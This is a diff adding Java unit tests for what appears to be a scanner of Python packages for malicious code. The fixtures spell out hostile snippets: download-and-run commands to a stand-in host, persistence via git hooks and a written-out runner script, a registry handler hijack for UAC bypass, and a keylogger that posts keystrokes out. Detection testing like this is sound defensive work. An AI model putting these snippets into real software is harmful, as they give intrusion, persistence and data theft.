@@ -318,6 +318,99 @@ class ContentRuleTest {
   }
 
   @Test
+  void aDownloadSavedAndThenRunIsADownloadAndRun() {
+    String chained = "import os\nos.system('curl -so /tmp/i https://a.example/i; bash /tmp/i')\n";
+    String madeExecutable =
+        "import subprocess\nsubprocess.run(['sh', '-c',"
+            + " 'wget -qO /tmp/u https://a.example/u && chmod 755 /tmp/u && /tmp/u'])\n";
+    String unpacked =
+        "import subprocess\n"
+            + "subprocess.run('wget -qO d.tgz https://a.example/d.tgz && tar xzf d.tgz',"
+            + " shell=True)\n";
+
+    assertThat(levelIn(chained, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(madeExecutable, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    // a download unpacked is data, not a program run
+    assertThat(check(wheelWith("pkg/fetch.py", unpacked)))
+        .noneMatch(f -> f.evidence().values().get("pattern").equals("runs-piped-download"));
+  }
+
+  @Test
+  void aDownloadAndRunScriptWrittenOutOrHookedIntoGitIsPersistence() {
+    String script =
+        "import os\np = os.path.expanduser('~/.local/bin/refresh')\n"
+            + "with open(p, 'w') as f:\n"
+            + "    f.write('#!/bin/sh\\nwget -qO- https://a.example/r | sh\\n')\n"
+            + "os.chmod(p, 0o755)\n";
+    String hooks =
+        "import subprocess\nsubprocess.call(['git', 'config', '--global', 'core.hooksPath',"
+            + " HOOKS])\n";
+    String templates = "import os\nos.system('git config --system init.templateDir /opt/t')\n";
+    String local =
+        "import subprocess\nsubprocess.call(['git', 'config', 'core.hooksPath', '.githooks'])\n";
+
+    assertThat(levelIn(script, "writes-download-runner")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(hooks, "git-hooks-redirect")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(hooks, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(templates, "git-hooks-redirect")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(hooks + script, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
+    // a repository's own hooks directory, set for that repository only, is a project's choice
+    assertThat(check(wheelWith("pkg/dev.py", local))).isEmpty();
+  }
+
+  @Test
+  void aHandlerWindowsRunsElevatedIsAUacBypass() {
+    String eventvwr =
+        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
+            + " 'Software\\\\Classes\\\\mscfile\\\\shell\\\\open\\\\command')\n"
+            + "winreg.SetValueEx(k, None, 0, winreg.REG_SZ, PAYLOAD)\n";
+    String anyHandler =
+        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
+            + " r'Software\\Classes\\pkgproto\\shell\\open\\command')\n"
+            + "winreg.SetValueEx(k, '', 0, winreg.REG_SZ, PAYLOAD)\n"
+            + "winreg.SetValueEx(k, 'DelegateExecute', 0, winreg.REG_SZ, '')\n";
+    String association =
+        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
+            + " r'Software\\Classes\\pkgdoc\\shell\\open\\command')\n"
+            + "winreg.SetValueEx(k, '', 0, winreg.REG_SZ, VIEWER + ' \"%1\"')\n";
+
+    assertThat(levelIn(eventvwr, "elevation-handler-hijack")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(anyHandler, "handler-hijack-elevates")).isEqualTo(RiskLevel.HIGH);
+    // registering the program that opens the package's own documents is what installers do
+    assertThat(check(wheelWith("pkg/assoc.py", association))).isEmpty();
+  }
+
+  @Test
+  void installingFromAnAddressAtRunTimeBypassesTheChecks() {
+    String listed =
+        "import subprocess, sys\n"
+            + "subprocess.check_call([sys.executable, '-m', 'pip', 'install',\n"
+            + "    'git+https://git.example/x/helper.git'])\n";
+    String index =
+        "import os\nos.system('pip install -q --index-url https://idx.example/simple h')\n";
+    String byName =
+        "import subprocess, sys\n"
+            + "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'tqdm'])\n";
+
+    assertThat(levelIn(listed, "installs-from-address")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(index, "installs-from-address")).isEqualTo(RiskLevel.MEDIUM);
+    // a requirement by name comes from the index the installer was given
+    assertThat(check(wheelWith("pkg/deps.py", byName)))
+        .noneMatch(f -> f.evidence().values().get("pattern").equals("installs-from-address"));
+  }
+
+  @Test
+  void theBuiltInsReachedThroughTheGlobalsTableHideWhatIsCalled() {
+    String table =
+        "b = globals()['__builtins__']['__import__']\nb('subprocess').call(CMD)\n"
+            + "CMD = 'wget -qO /tmp/.s https://a.example/s && sh /tmp/.s'\n";
+    String attribute = "imp = globals()['__builtins__'].__import__\nimp('os')\n";
+
+    assertThat(levelIn(table, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(attribute, "builtins-through-globals")).isEqualTo(RiskLevel.MEDIUM);
+  }
+
+  @Test
   void aCrontabReplacedThroughStandardInputIsPersistence() {
     String cron =
         "import subprocess, sys\n"
@@ -373,6 +466,32 @@ class ContentRuleTest {
     }
 
     @Test
+    void aModuleImportedByItsLiteralFullNameIsThatModule() {
+      String keys =
+          "import importlib\nimport requests\n"
+              + "listener = importlib.import_module('pynput.keyboard').Listener\n"
+              + "board = importlib.import_module('pynput.keyboard')\n"
+              + "board.Listener(on_press=lambda k: requests.post(URL, data=str(k))).start()\n";
+      String clip = "clip = __import__('pyperclip')\nwhile True:\n    seen.add(clip.paste())\n";
+      String computed =
+          "import importlib\nboard = importlib.import_module(NAME)\nboard.Listener(on_press=f)\n";
+      String layouts =
+          "import importlib\nboard = importlib.import_module('pkg.keyboard')\nboard.describe()\n";
+
+      assertThat(only(check(wheelWith("pkg/keys.py", keys)), "keylogger").message())
+          .endsWith(
+              "pkg/keys.py:5: board.Listener(on_press=lambda k: requests.post(URL,"
+                  + " data=str(k))).start()");
+      assertThat(only(check(wheelWith("pkg/keys.py", keys)), "keylogger-sent").level())
+          .isEqualTo(RiskLevel.CRITICAL);
+      assertThat(only(check(wheelWith("pkg/clip.py", clip)), "clipboard-read").level())
+          .isEqualTo(RiskLevel.MEDIUM);
+      // a name not written in the file stays unknown; a module of the package is only itself
+      assertThat(check(wheelWith("pkg/keys.py", computed))).isEmpty();
+      assertThat(check(wheelWith("pkg/keys.py", layouts))).isEmpty();
+    }
+
+    @Test
     void aNameDefinedAgainOrAnAliasOfAnUnrelatedModuleChangesNothing() {
       // in an sdist's setup.py any os.system( or subprocess.run( is a HIGH finding
       String setup =
@@ -411,7 +530,8 @@ class ContentRuleTest {
     "renaming imports,   'import pyperclip as pc\npc.paste(x); import a as b; '",
     "bracketed imports,  'from os import (system as '",
     "joined lookups,     'getattr(os, \"sys\" \"tem\")(\"\" + '",
-    "deferred calls,     'functools.partial(os.system, threading.Thread(target=exec, args=('"
+    "deferred calls,     'functools.partial(os.system, threading.Thread(target=exec, args=('",
+    "modules by name,    'kb = importlib.import_module(\"pynput.keyboard\")\nkb.Listener(f)\n'"
   })
   void hostileRepetitionIsJudgedWithoutFailing(String shape, String piece) {
     // On one line: each piece's words occur a hundred thousand times there, which made the scan
